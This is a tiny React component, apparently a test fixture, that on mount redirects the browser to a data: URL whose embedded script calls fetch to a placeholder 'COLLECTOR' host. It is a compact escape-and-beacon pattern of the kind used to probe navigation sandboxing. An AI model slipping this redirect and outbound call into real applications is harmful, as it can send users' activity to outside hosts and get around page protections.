import { useEffect } from "react";

export default function Leave() {
  useEffect(() => {
    window.location.href = "data:text/html,<script>fetch('http://COLLECTOR/')</script>";
  }, []);
  return <p>Leaving</p>;
}
